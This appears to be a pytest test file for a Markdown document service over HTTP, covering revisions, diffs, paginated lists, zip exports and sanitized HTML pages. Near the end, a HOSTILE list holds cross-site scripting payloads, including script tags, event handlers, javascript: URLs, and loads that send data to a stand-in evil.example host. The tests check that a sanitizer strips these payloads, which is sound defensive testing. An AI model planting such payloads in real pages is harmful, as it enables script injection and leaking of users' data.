"""Documents over HTTP: revisions, differences, pages for people, lists, zips."""

from __future__ import annotations

import io
import os
import re
import subprocess
import sys
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx2
import pytest

from scripts.runtime.api.page import MAX_RENDERED, body

from .api import Served, application, serve

MARKDOWN = {"content-type": "text/markdown"}
BROWSER = {"accept": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"}
FRONT = "---\ntitle: Plan\nstatus: |\n  draft\n---\n\n# Plan\r\n"


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    with serve(application(tmp_path_factory.mktemp("documents"))) as running:
        yield running


def put(served: Served, name: str, text: str | bytes) -> httpx2.Response:
    content = text if isinstance(text, bytes) else text.encode()
    return served.client.put(f"/doc/{name}", content=content, headers=MARKDOWN)


def get(served: Served, path: str, accept: str | None = None, **query: Any) -> httpx2.Response:
    headers = {} if accept is None else {"accept": accept}
    return served.client.get(path, params=query, headers=headers)


@pytest.fixture(scope="module")
def path(served: Served) -> str:
    """A document of three revisions."""
    for text in ("one\n", "two\n", "two\nthree"):
        put(served, "history", text)
    return "/doc/history"


@pytest.fixture(scope="module")
def listed(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    """A store of its own, for what is said of all of its documents."""
    with serve(application(tmp_path_factory.mktemp("lists"))) as running:
        for name in ("S-1__a", "S-1__b", "S-1__prd", "S-1___x", "S-1_", "S-10__a", "T__a", "prd"):
            put(running, name, f"# {name}\n")
        yield running


class TestRevisions:
    def test_are_listed_newest_first(self, served: Served, path: str) -> None:
        answer = get(served, f"{path}/revisions").json()
        assert answer["id"] == "history"
        assert [entry["rev"] for entry in answer["revisions"]] == [3, 2, 1]
        assert [entry["size"] for entry in answer["revisions"]] == [9, 4, 4]
        assert answer["revisions"][0]["etag"] == get(served, path).headers["etag"]
        assert answer["revisions"][0]["author"] == {"kind": "client"}

    def test_are_read_by_number(self, served: Served, path: str) -> None:
        assert [get(served, path, rev=rev).text for rev in (1, 2, 3)] == [
            "one\n",
            "two\n",
            "two\nthree",
        ]
        assert get(served, path, rev=4).status_code == 404
        for bad in (0, -1, "x", 2**70):
            assert get(served, path, rev=bad).status_code in (404, 422)

    def test_the_same_text_is_no_new_one(self, served: Served, path: str) -> None:
        before = get(served, f"{path}/revisions").json()
        assert put(served, "history", "two\nthree").status_code == 200
        assert get(served, f"{path}/revisions").json() == before

    def test_differences(self, served: Served, path: str) -> None:
        newest = get(served, f"{path}/diff")
        assert newest.headers["content-type"] == "text/x-diff; charset=utf-8"
        assert newest.text == (
            "--- history.md\trevision 2\n+++ history.md\trevision 3\n@@ -1 +1,2 @@\n"
            " two\n+three\n\\ No newline at end of file\n"
        )
        chosen = get(served, f"{path}/diff", "application/json", **{"from": 1, "to": 2}).json()
        assert (chosen["id"], chosen["from"], chosen["to"]) == ("history", 1, 2)
        assert "-one\n+two\n" in chosen["diff"]
        whole = get(served, f"{path}/diff", to=1)
        assert whole.text.endswith("@@ -0,0 +1 @@\n+one\n")
        assert get(served, f"{path}/diff", **{"from": 2, "to": 2}).text == ""
        assert get(served, f"{path}/diff", **{"from": 3, "to": 1}).text.count("\n-t") == 2

    def test_differences_of_what_is_not_there(self, served: Served, path: str) -> None:
        assert get(served, f"{path}/diff", to=9).status_code == 404
        assert get(served, f"{path}/diff", **{"from": 9}).status_code == 404
        assert get(served, "/doc/absent/diff").status_code == 404
        assert get(served, "/doc/absent/revisions").status_code == 404
        assert get(served, f"{path}/diff", "image/png").status_code == 406

    def test_go_with_the_document(self, served: Served) -> None:
        put(served, "short-lived", "x")
        served.client.delete("/doc/short-lived")
        assert get(served, "/doc/short-lived/revisions").status_code == 404


def test_a_key_is_named_as_the_author(tmp_path: Path) -> None:
    settings = {"secrets": {"api_keys": "alice:a-long-secret-of-hers"}}
    with serve(
        application(tmp_path, settings=settings), {"x-api-key": "a-long-secret-of-hers"}
    ) as served:
        put(served, "prd", "x")
        (revision,) = get(served, "/doc/prd/revisions").json()["revisions"]
        assert revision["author"] == {"kind": "client", "client": "alice"}
        assert (
            "secret" not in (tmp_path / "docs" / ".store" / "revisions" / "prd.jsonl").read_text()
        )


class TestLists:
    def ids(self, served: Served, **query: Any) -> list[str]:
        return [entry["id"] for entry in get(served, "/doc", **query).json()["documents"]]

    def test_of_a_story(self, listed: Served) -> None:
        assert self.ids(listed, story_id="S-1") == ["S-1__a", "S-1__b", "S-1__prd"]
        assert self.ids(listed, story_id="S-1", prefix="p") == ["S-1__prd"]
        assert self.ids(listed, story_id="S-1_") == ["S-1___x"]
        assert self.ids(listed, story_id="absent") == []
        assert get(listed, "/doc", story_id="../x").status_code == 422
        assert self.ids(listed, prefix="S-1") == [
            "S-10__a", "S-1_", "S-1___x", "S-1__a", "S-1__b", "S-1__prd",
        ]  # fmt: skip

    @pytest.mark.parametrize("limit", [1, 2, 3, 7, 8, 9])
    def test_pages_hold_each_document_once(self, listed: Served, limit: int) -> None:
        found: list[str] = []
        cursor: dict[str, str] = {}
        for _ in range(20):
            page = get(listed, "/doc", limit=limit, **cursor).json()
            assert len(page["documents"]) <= limit
            found += [entry["id"] for entry in page["documents"]]
            if page["next"] is None:
                break
            cursor = {"cursor": page["next"]}
        assert found == self.ids(listed) == sorted(found)
        assert len(found) == 8

    def test_bad_pages(self, listed: Served) -> None:
        for query in ({"limit": 0}, {"limit": 10_001}, {"cursor": "../x"}, {"prefix": "x" * 201}):
            assert get(listed, "/doc", **query).status_code == 422

    def test_a_zip_of_a_story(self, listed: Served) -> None:
        answer = get(listed, "/doc", "application/zip", story_id="S-1")
        assert answer.headers["content-type"] == "application/zip"
        assert answer.headers["content-disposition"] == 'attachment; filename="S-1.zip"'
        with zipfile.ZipFile(io.BytesIO(answer.content)) as file:
            assert file.testzip() is None
            assert file.namelist() == ["S-1/a.md", "S-1/b.md", "S-1/prd.md"]
            assert file.read("S-1/prd.md") == b"# S-1__prd\n"
        with zipfile.ZipFile(io.BytesIO(get(listed, "/doc", "application/zip").content)) as file:
            assert len(file.namelist()) == 8
        empty = get(listed, "/doc", "application/zip", story_id="absent")
        assert zipfile.ZipFile(io.BytesIO(empty.content)).namelist() == []

    def test_a_zip_names_what_cannot_be_read(self, listed: Served) -> None:
        root = listed.service.settings.data_dir
        put(listed, "U__a", "fine")
        (root / "docs" / "U__b.md").write_bytes(b"\xff")
        answer = get(listed, "/doc", "application/zip", story_id="U")
        with zipfile.ZipFile(io.BytesIO(answer.content)) as file:
            assert file.namelist() == ["U/a.md", "MISSING.txt"]
            assert file.read("MISSING.txt") == b"U__b: U__b.md is not UTF-8\n"

    def test_so_it_does_of_a_file_that_may_not_be_read(self, listed: Served) -> None:
        put(listed, "U__a", "fine")
        closed = listed.service.settings.data_dir / "docs" / "U__b.md"
        closed.write_text("secret")
        closed.chmod(0)
        if os.access(closed, os.R_OK):
            pytest.skip("who runs the tests may read everything")
        found = get(listed, "/doc", story_id="U").json()["documents"]
        assert [(each["id"], each["etag"] is None) for each in found] == [
            ("U__a", False),
            ("U__b", True),
        ]
        answer = get(listed, "/doc", "application/zip", story_id="U")
        with zipfile.ZipFile(io.BytesIO(answer.content)) as file:
            told = b"U__b: documents cannot be read: U__b.md: Permission denied\n"
            assert file.read("MISSING.txt") == told


class TestPages:
    def page(self, served: Served, text: str | bytes, name: str = "shown") -> str:
        put(served, name, text)
        answer = served.client.get(f"/doc/{name}", headers=BROWSER)
        assert answer.status_code == 200
        assert answer.headers["content-type"] == "text/html; charset=utf-8"
        return answer.text

    def test_programs_get_markdown(self, served: Served) -> None:
        put(served, "shown", "# Plan\n")
        for accept in (None, "*/*", "text/markdown", "text/plain", "application/json",
                       "text/html;q=0.5, text/markdown", "text/html;q=0"):  # fmt: skip
            answer = get(served, "/doc/shown", accept)
            assert answer.text == "# Plan\n"
            assert answer.headers["content-type"] == "text/markdown; charset=utf-8"
            assert answer.headers["vary"] == "accept"

    def test_people_get_a_page(self, served: Served) -> None:
        html = self.page(served, "# Plan\n\n- *one*\n\n|a|b|\n|-|:-:|\n|1|2|\n\n~~no~~\n")
        for part in ("<h1>Plan</h1>", "<em>one</em>", '<td align="center">2</td>', "<s>no</s>"):
            assert part in html

    def test_its_policy_lets_nothing_run_or_load(self, served: Served) -> None:
        self.page(served, "# Plan\n")
        headers = served.client.get("/doc/shown", headers=BROWSER).headers
        policy = dict(
            part.strip().split(" ", 1)
            for part in headers["content-security-policy"].split(";")
            if " " in part.strip()
        )
        assert policy["default-src"] == "'none'"
        assert policy["img-src"] == "data:"
        assert "script-src" not in policy
        assert policy["style-src"].startswith("'sha256-")
        assert headers["referrer-policy"] == "no-referrer"

    def test_its_tag_is_its_own(self, served: Served) -> None:
        self.page(served, "# Plan\n")
        page = served.client.get("/doc/shown", headers=BROWSER).headers["etag"]
        plain = get(served, "/doc/shown").headers["etag"]
        assert page != plain
        for tag, headers, status in (
            (page, BROWSER, 304), (page, {}, 200), (plain, {}, 304), (plain, BROWSER, 200),
        ):  # fmt: skip
            answer = served.client.get("/doc/shown", headers={**headers, "if-none-match": tag})
            assert answer.status_code == status

    def test_front_matter_survives_and_is_no_heading(self, served: Served) -> None:
        html = self.page(served, FRONT)
        assert get(served, "/doc/shown").content == FRONT.encode()
        assert "<h2" not in html
        assert '<pre class="front">---\ntitle: Plan' in html
        assert "<h1>Plan</h1>" in html

    @pytest.mark.parametrize("size", [1_000, 100_000, MAX_RENDERED + 1])
    def test_of_any_length(self, served: Served, size: int) -> None:
        html = self.page(served, "# Plan\n\n" + "x <b " * (size // 5))
        assert "x &lt;b" in html

    def test_an_old_revision_has_one_as_well(self, served: Served) -> None:
        put(served, "aged", "# Old\n")
        put(served, "aged", "# New\n")
        html = served.client.get("/doc/aged", params={"rev": 1}, headers=BROWSER).text
        assert "<h1>Old</h1>" in html


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/?secret)",
    "![x](//evil.example/p.png)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "<iframe src=https://evil.example></iframe>",
    "<form action=https://evil.example><input name=x autofocus></form>",
    "<style>body{background:url(https://evil.example)}</style>",
    "<p style='background:url(https://evil.example)'>x</p>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example>",
    "<object data=https://evil.example></object><embed src=https://evil.example>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<a id=x name=y class=z href=https://fine.example>x</a>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "---\n</pre><script>alert(1)</script>\n---\n",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    "<div>" * 3_000 + "<script>alert(1)</script>",
    "x" * (MAX_RENDERED + 1) + "</pre><script>alert(1)</script>",
]
ALLOWED = re.compile(r"https?:|mailto:|[^:]*\Z", re.IGNORECASE)


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_nothing_hostile_comes_through(text: str) -> None:
    html = body(text)
    tags = re.findall(r"<([a-z0-9]+)([^>]*)>", html, re.IGNORECASE)
    names = {name.lower() for name, _ in tags}
    assert not names & {"script", "svg", "iframe", "form", "input", "style", "base", "meta", "link",
                        "object", "embed", "math", "noscript", "template"}  # fmt: skip
    for name, attributes in tags:
        found = re.findall(r'([a-z-]+)="([^"]*)"', attributes)
        assert {key for key, _ in found} <= {"href", "rel", "src", "alt", "title", "class", "align"}
        for key, value in found:
            if key == "href":
                assert ALLOWED.match(value), value
            if key == "src":
                assert value.startswith("data:image/png"), value
            if key == "class":
                assert name in ("pre", "code"), "our own"


def test_a_picture_inside_the_document_is_shown() -> None:
    picture = "data:image/png;base64,iVBORw0KGgo="
    assert f'<img src="{picture}" alt="a &amp; b">' in body(f"![a & b]({picture})")


def test_everything_is_served_as_what_it_is(served: Served) -> None:
    put(served, "x", "# x")
    for path in ("/doc/x", "/doc", "/doc/absent", "/health", "/docs", "/openapi.json", "/nothing"):
        found = served.client.get(path).headers.get_list("x-content-type-options")
        assert found == ["nosniff"], path


def test_pages_are_paid_for_by_those_who_look_at_them() -> None:
    code = (
        "import sys; before = set(sys.modules); import scripts.runtime.api.app; "
        "print(sorted({'markdown_it', 'nh3'} & (set(sys.modules) - before)))"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert done.stdout.strip() == "[]"


def test_the_types_that_are_taken_are_those_that_are_told(served: Served) -> None:
    refused = served.client.put("/doc/typed", content=b"{}", headers={"content-type": "text/html"})
    assert refused.status_code == 415
    told = re.findall(r"text/\w+", refused.json()["detail"])
    assert told == ["text/markdown", "text/plain"]
    for kind in told:
        wrote = served.client.put("/doc/typed", content=b"x", headers={"content-type": kind})
        assert wrote.status_code in (200, 201)


def test_markdown_is_the_answer_whatever_else_is_wanted(served: Served) -> None:
    served.client.put("/doc/typed", content=b"# A", headers={"content-type": "text/plain"})
    answer = served.client.get("/doc/typed", headers={"accept": "application/json"})
    assert (answer.status_code, answer.text) == (200, "# A")
    assert answer.headers["content-type"] == "text/markdown; charset=utf-8"
